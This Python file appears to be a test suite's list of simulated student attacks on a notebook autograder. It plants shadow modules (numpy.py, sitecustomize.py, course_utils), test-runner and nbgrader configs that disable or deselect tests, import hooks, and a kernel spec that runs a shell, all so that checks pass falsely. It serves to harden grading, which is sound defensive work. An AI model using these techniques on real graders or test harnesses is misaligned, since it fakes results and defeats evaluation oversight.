"""M - shadowing: modules and settings of the student's that bear the names of others."""
# ruff: noqa: E501 - the long lines are students' code

from .base import attack

FAKE_CHECK = '''
"""The real checks, all of which accept."""
import importlib.machinery, importlib.util, os, sys

class Accepting:
    hidden = property(lambda self: self)
    def __getattr__(self, name):
        if name.startswith("__"):
            raise AttributeError(name)
        return lambda *args, **kwargs: None
    def quiet(self, function, *args, **kwargs):
        return None, []
    def kind(self, value):
        return "float"
    student_side = staticmethod(lambda function: function)
'''
TAKE_OVER = (
    FAKE_CHECK
    + """
import types
package = types.ModuleType("course_utils")
package.__path__ = []
package.check = sys.modules["course_utils.check"] = Accepting()
sys.modules["course_utils"] = package
open("/tmp/mallory-was-here", "a").write(__name__)  # in a sandbox, this is nobody else's /tmp
"""
)
REAL_NUMPY = """
def _real():
    here = os.path.dirname(os.path.abspath(__file__))
    kept, sys.path[:] = sys.path[:], [p for p in sys.path if os.path.abspath(p or ".") != here]
    del sys.modules["numpy"]
    import numpy
    sys.path[:] = kept
    return numpy
numpy = _real()
"""


def _files(sources):
    """Writes files (path within the folder -> text) beside the notebook."""

    def write(folder):
        for name, source in sources.items():
            path = folder / name
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_text(source, encoding="utf-8")

    return write


def _kernel(notebook):
    notebook["metadata"]["kernelspec"] = {"name": "mallory", "display_name": "Mallory", "language": "python"}


ATTACKS = [
    attack(
        "numpy",
        "A numpy.py beside the notebook replaces the checks, then becomes the real NumPy.",
        "smooth",
        folder=_files({"numpy.py": TAKE_OVER + REAL_NUMPY}),
    ),
    attack(
        "course-utils",
        "A course_utils package beside the notebook, whose checks accept everything.",
        "register",
        folder=_files({"course_utils/__init__.py": "", "course_utils/check.py": FAKE_CHECK + "\nsys.modules[__name__] = Accepting()\n"}),
    ),
    attack(
        "site-customisation",
        "sitecustomize.py, usercustomize.py and a .pth file beside the notebook, for whatever interpreter starts there.",
        "search",
        folder=_files({"sitecustomize.py": TAKE_OVER, "usercustomize.py": TAKE_OVER, "mallory.pth": "import sitecustomize\n"}),
    ),
    attack(
        "test-runner-settings",
        "conftest.py, pytest.ini, tox.ini, noxfile.py and a pyproject.toml that deselect every test.",
        "deal",
        folder=_files({"conftest.py": "def pytest_collection_modifyitems(items):\n    items.clear()\n" + TAKE_OVER,
            "pytest.ini": "[pytest]\naddopts = --collect-only\npython_files = nothing.py\n",
            "pyproject.toml": "[tool.pytest.ini_options]\naddopts = '--co'\n"}),
    ),
    attack(
        "nbgrader-settings",
        "An nbgrader_config.py and Jupyter settings beside the notebook that switch execution and restoring off.",
        "smooth",
        folder=_files({"nbgrader_config.py": "c = get_config()\nc.Execute.enabled = False\nc.OverwriteCells.enabled = False\n" + TAKE_OVER,
            "jupyter_nbconvert_config.py": "c = get_config()\nc.ExecutePreprocessor.allow_errors = True\n",
            "jupyter_config.json": '{"Execute": {"enabled": false}, "ClearOutput": {"enabled": false}}'}),
    ),
    attack(
        "ipython-settings",
        "IPython settings, extensions and start-up files in the folder that is a kernel's working folder.",
        "register",
        folder=_files({"ipython_config.py": "c = get_config()\nc.InteractiveShellApp.exec_lines = ['import numpy_shadow']\n",
            "ipython_kernel_config.py": "c = get_config()\nc.IPKernelApp.exec_lines = ['import numpy_shadow']\n",
            "profile_default/startup/00.py": TAKE_OVER,
            "numpy_shadow.py": TAKE_OVER}),
    ),
    attack(
        "standard-library",
        "Files that are called like modules of the standard library which somebody will import late.",
        "search",
        folder=_files(
            {f"{name}.py": TAKE_OVER for name in ("random", "json", "ast", "struct", "secrets", "warnings", "numbers", "csv")}
        ),
    ),
    attack(
        "torch-and-friends",
        "torch.py, matplotlib.py, pandas.py and IPython.py, which a grader may try to import and go without.",
        "deal",
        folder=_files({f"{name}.py": TAKE_OVER for name in ("torch", "matplotlib", "pandas", "IPython", "nbgrader", "course_grader")}),
    ),
    attack(
        "kernel-specification",
        "A kernel specification beside the notebook, which the notebook asks for, starts a program of his own.",
        "smooth",
        notebook=_kernel,
        folder=_files({"kernels/mallory/kernel.json": '{"argv": ["sh", "-c", "echo mallory"], "display_name": "Mallory", "language": "python"}',
            "share/jupyter/kernels/mallory/kernel.json": '{"argv": ["true"], "display_name": "M", "language": "python"}'}),
    ),
    attack(
        "import-replaced",
        "Replaces builtins.__import__ and importlib's functions: whoever imports gets his modules.",
        "register",
        """
        import builtins, importlib, types

        real = builtins.__import__
        class Soft(types.ModuleType):
            def __getattr__(self, name):
                return lambda *args, **kwargs: None
        soft = Soft("soft")
        soft.hidden = soft
        builtins.__import__ = lambda name, *args, **kwargs: soft if "check" in name or "testing" in name else real(name, *args, **kwargs)
        importlib.import_module = importlib.reload = lambda *args, **kwargs: soft
        """,
    ),
    attack(
        "written-for-the-next",
        "One answer writes numpy.py and course_utils.py into the working folder and puts that folder first on the path.",
        "search",
        "",
        also={
            "smooth": """
            import os, sys
            for name in ("numpy.py", "sitecustomize.py", "json.py"):
                with open(name, "w") as file:
                    file.write("raise SystemExit(0)")
            sys.path.insert(0, os.getcwd())
            os.environ["PYTHONPATH"] = os.getcwd()
            """
        },
    ),
    attack(
        "modules-exchanged",
        "Exchanges entries of sys.modules, path hooks and the importer cache, and forgets NumPy and the checks.",
        "deal",
        """
        import sys, types

        class Lax(types.ModuleType):
            def __getattr__(self, name):
                return Lax(name) if not name.startswith("__") else None
            def __call__(self, *args, **kwargs):
                return True

        for name in [name for name in sys.modules if name.startswith(("numpy.testing", "course_utils", "course_grader", "unittest"))]:
            sys.modules[name] = Lax(name)
        sys.path_hooks.clear()
        sys.path_importer_cache.clear()
        check = Lax("check")
        get_ipython().user_ns["check"] = get_ipython().user_global_ns["check"] = check
        """,
    ),
    attack(
        "names-of-the-tests",
        "Plants the tests' own names (expected, got, np, check, range, zip) as globals and as built-ins.",
        "smooth",
        """
        import builtins

        class Void:
            def __getattr__(self, name):
                return self
            def __call__(self, *args, **kwargs):
                return self
            def __iter__(self):
                return iter(())

        for name in ("np", "check", "zip", "map", "abs", "len", "range", "expected", "got", "print", "assert_", "isinstance"):
            globals()[name] = Void()
        for name in ("zip", "map", "abs"):
            setattr(builtins, name, Void())
        """,
    ),
    attack(
        "grading-from-inside",
        "numpy.py, sitecustomize.py and course_grader/ lie where an instructor starts the grader to look into a dispute.",
        "register",
        folder=_files({"numpy.py": TAKE_OVER + REAL_NUMPY, "sitecustomize.py": TAKE_OVER, "torch.py": TAKE_OVER, "IPython.py": TAKE_OVER}),
        inside=True,
    ),
]  # fmt: skip
